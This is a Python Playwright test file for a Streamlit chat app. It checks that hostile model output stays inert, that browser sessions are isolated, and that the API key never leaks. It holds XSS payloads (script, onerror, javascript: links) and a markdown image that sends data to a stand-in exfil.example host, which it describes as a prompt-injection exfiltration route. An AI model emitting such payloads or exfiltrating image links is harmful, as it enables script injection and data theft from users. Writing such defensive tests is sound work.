"""What must never happen in a browser: model output that runs, sessions that leak, a key that shows."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import expect

from lib.api.fake_api import Behaviour, FakeAPI
from tests.conftest import CANARY_KEY
from tests.e2e.harness import MESSAGE, ROOT, StreamlitServer, messages, open_chat, send, wait_for, wait_for_reply

pytestmark = pytest.mark.browser

HOSTILE = (
    "Look: <script>window.pwned=1</script> <img src=x onerror=\"window.pwned=2\"> "
    "[click me](javascript:window.pwned=3) <iframe src=\"javascript:window.pwned=4\"></iframe> "
    "<b onmouseover=\"window.pwned=5\">bold</b> <svg onload=\"window.pwned=6\"></svg> END-OF-HOSTILE"
)

#: every element inside the chat messages that could run code: script, iframe, object, embed,
#: any on* attribute, any javascript: URL
ACTIVE_JS = """
(selector = '[data-testid=stChatMessage] *') => Array.from(document.querySelectorAll(selector)).filter(e =>
    ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FRAME'].includes(e.tagName)
    || Array.from(e.attributes).some(a => a.name.toLowerCase().startsWith('on')
        || /^\\s*javascript:/i.test(a.value))
).map(e => e.outerHTML.slice(0, 200))
"""


def pwned(page: Any) -> Any:
    return page.evaluate("() => window.pwned")


def test_hostile_model_output_is_inert(page: Any, app_server: StreamlitServer, e2e_fake: FakeAPI) -> None:
    e2e_fake.plan(Behaviour(reply=HOSTILE))
    open_chat(page, app_server)
    send(page, HOSTILE)  # the user's own text is drawn the same way
    wait_for_reply(page, "END-OF-HOSTILE")
    page.wait_for_timeout(500)  # give an onerror or onload time to fire

    assert pwned(page) is None
    assert page.evaluate(ACTIVE_JS) == []
    assert page.locator(f"{MESSAGE} iframe, {MESSAGE} script, {MESSAGE} img[onerror], {MESSAGE} svg").count() == 0

    url = page.url
    links = page.locator(MESSAGE).get_by_text("click me")
    assert links.count() >= 1
    for index in range(links.count()):
        # The raw text in a closed Copy box is not shown, so not clickable either.
        if links.nth(index).is_visible():
            links.nth(index).click()
    page.locator(MESSAGE).get_by_text("bold").last.hover()
    page.wait_for_timeout(500)
    assert pwned(page) is None
    assert page.url.split("#")[0] == url  # at most an in-page anchor: no navigation, nothing run
    # The text is still there, shown rather than run.
    assert "END-OF-HOSTILE" in messages(page)[-1][1]


def action_messages() -> int:
    """How many of the latest messages app.py draws as chat bubbles (older ones are HTML blocks)."""
    found = re.search(r"^ACTION_MESSAGES = (\d+)", (ROOT / "app.py").read_text(), re.M)
    return int(found.group(1)) if found else 40


def test_hostile_output_in_an_old_turn_drawn_as_html_is_inert(
    page: Any, app_server: StreamlitServer, e2e_fake: FakeAPI
) -> None:
    # Enough turns to push the hostile reply out of the latest bubbles, whatever the exact split.
    limit = action_messages() // 2 + 6
    e2e_fake.plan(Behaviour(reply=HOSTILE), *[Behaviour(reply=f"ok {n}.") for n in range(1, limit)])
    open_chat(page, app_server)
    send(page, "be hostile")
    wait_for_reply(page, "END-OF-HOSTILE")
    for n in range(1, limit):
        send(page, f"turn {n}")
        wait_for_reply(page, f"ok {n}.")
        if n >= action_messages() // 2 and not any("END-OF-HOSTILE" in text for _, text in messages(page)):
            break
    page.wait_for_timeout(500)

    # The hostile reply is no longer a chat bubble but part of the page's HTML transcript.
    assert not any("END-OF-HOSTILE" in text for _, text in messages(page))
    assert "END-OF-HOSTILE" in page.get_by_role("main").inner_text()
    assert pwned(page) is None
    assert page.evaluate(ACTIVE_JS, "main *") == []
    links = page.get_by_role("main").get_by_text("click me")
    for index in range(links.count()):
        # The raw text in a closed Copy box is not shown, so not clickable either.
        if links.nth(index).is_visible():
            links.nth(index).click()
    page.wait_for_timeout(300)
    assert pwned(page) is None


def main_area(page: Any) -> str:
    """The HTML of the page's main area (the chat), the sidebar left out."""
    return page.get_by_role("main").inner_html()


def test_two_browsers_never_see_each_others_chat(
    new_page: Any, app_server: StreamlitServer, e2e_fake: FakeAPI
) -> None:
    # The fake's default answer is the demo model's, which quotes the question back.
    first, second = new_page(), new_page()
    open_chat(first, app_server)
    open_chat(second, app_server)
    send(first, "secret of the first browser zq7731")
    send(second, "hello from the second browser zq4410")
    wait_for_reply(first, "zq7731")
    wait_for_reply(second, "zq4410")

    assert "zq4410" not in main_area(first)
    assert "zq7731" not in main_area(second)
    assert [role for role, _ in messages(first)] == ["user", "assistant"]
    assert [role for role, _ in messages(second)] == ["user", "assistant"]
    questions = sorted(
        [m["content"] for m in body["messages"] if m["role"] == "user"] for body in e2e_fake.bodies()
    )
    assert questions == [["hello from the second browser zq4410"], ["secret of the first browser zq7731"]]

    # A second turn in one browser changes nothing in the other.
    send(second, "and a second question zq5521")
    wait_for_reply(second, "zq5521")
    first.wait_for_timeout(300)
    assert "zq5521" not in main_area(first) and "zq4410" not in main_area(first)
    assert len(messages(first)) == 2


def test_the_key_shows_in_no_page_no_message_and_no_log(
    page: Any, app_server: StreamlitServer, e2e_fake: FakeAPI
) -> None:
    frames: list[bytes | str] = []
    page.on("websocket", lambda ws: ws.on("framereceived", lambda frame: frames.append(frame)))
    e2e_fake.plan(
        Behaviour(reply="A plain answer."),
        Behaviour(status=401),
        *[Behaviour(status=500)] * 3,
        Behaviour(reply="cut short here", drop_after=1),
    )
    open_chat(page, app_server)
    send(page, "hello")
    wait_for_reply(page, "A plain answer.")
    send(page, "again")
    expect(page.locator(MESSAGE).get_by_test_id("stAlertContentError")).to_be_visible()
    page.get_by_role("button", name="Retry").click()
    expect(page.locator(MESSAGE).get_by_test_id("stAlertContentError")).to_contain_text("500", timeout=20_000)
    page.get_by_role("button", name="Retry").click()
    expect(page.get_by_text("Incomplete reply")).to_be_visible(timeout=20_000)
    wait_for(lambda: len(e2e_fake.requests) == 6, 10, what="six requests")

    # The key went where it belongs, and nowhere else.
    assert {r.headers.get("Authorization") for r in e2e_fake.requests} == {f"Bearer {CANARY_KEY}"}
    assert CANARY_KEY not in page.content()
    assert frames, "no websocket traffic was captured"
    for frame in frames:
        data = frame.encode() if isinstance(frame, str) else frame
        assert CANARY_KEY.encode() not in data
    sidebar = page.get_by_test_id("stSidebar")
    assert sidebar.locator('input[aria-label="API key"]').input_value() == ""
    log = app_server.log_text()
    assert log.strip(), "the server wrote no log at all"
    assert CANARY_KEY not in log


def test_a_remote_image_in_a_reply_or_a_title_makes_no_request_to_its_host(
    page: Any, app_server: StreamlitServer, e2e_fake: FakeAPI
) -> None:
    """A prompt-injected model can put the user's data in an image's address; showing it must not send it."""
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    e2e_fake.plan(Behaviour(reply="Here: ![chart](http://exfil.example/leak?data=secret-42) END-IMG"))
    open_chat(page, app_server)
    # The first message, written as an image, becomes the title listed in the sidebar.
    send(page, "![t](http://title.example/pixel.png)")
    wait_for_reply(page, "END-IMG")
    link = page.locator(MESSAGE).last.get_by_role("link", name=re.compile(r"image: chart \(exfil\.example\)"))
    expect(link).to_be_visible()
    page.wait_for_timeout(500)
    assert [u for u in requested if "exfil.example" in u or "title.example" in u] == []
    assert page.locator("img[src*='example']").count() == 0


def test_a_key_echoed_by_the_server_leaves_no_trace_in_the_page_the_database_or_an_export(
    page: Any, restartable_server: StreamlitServer, e2e_fake: FakeAPI, tmp_path: Any
) -> None:
    frames: list[bytes | str] = []
    page.on("websocket", lambda ws: ws.on("framereceived", lambda frame: frames.append(frame)))
    e2e_fake.plan(Behaviour(status=401, error_message=f"Incorrect API key provided: {CANARY_KEY}"))
    open_chat(page, restartable_server)
    send(page, "echo test")
    expect(page.locator(MESSAGE).get_by_test_id("stAlertContentError")).to_contain_text("Incorrect API key provided")
    assert CANARY_KEY not in page.content()
    assert all(CANARY_KEY.encode() not in (f.encode() if isinstance(f, str) else f) for f in frames)

    # The database file, and the export a user downloads from History.
    database = tmp_path / "chats.sqlite3"
    wait_for(lambda: database.exists() and b"echo test" in database.read_bytes() + _wal(database), 10,
             what="the failed turn to be saved")
    assert CANARY_KEY.encode() not in database.read_bytes() + _wal(database)
    page.get_by_test_id("stSidebar").get_by_role("link", name="History").click()
    expect(page.get_by_role("heading", name="History")).to_be_visible(timeout=30_000)
    with page.expect_download() as download:
        page.get_by_role("button", name=re.compile("JSON")).first.click()
    assert CANARY_KEY not in download.value.path().read_text()


def _wal(database: Any) -> bytes:
    wal = database.with_name(database.name + "-wal")
    return wal.read_bytes() if wal.exists() else b""
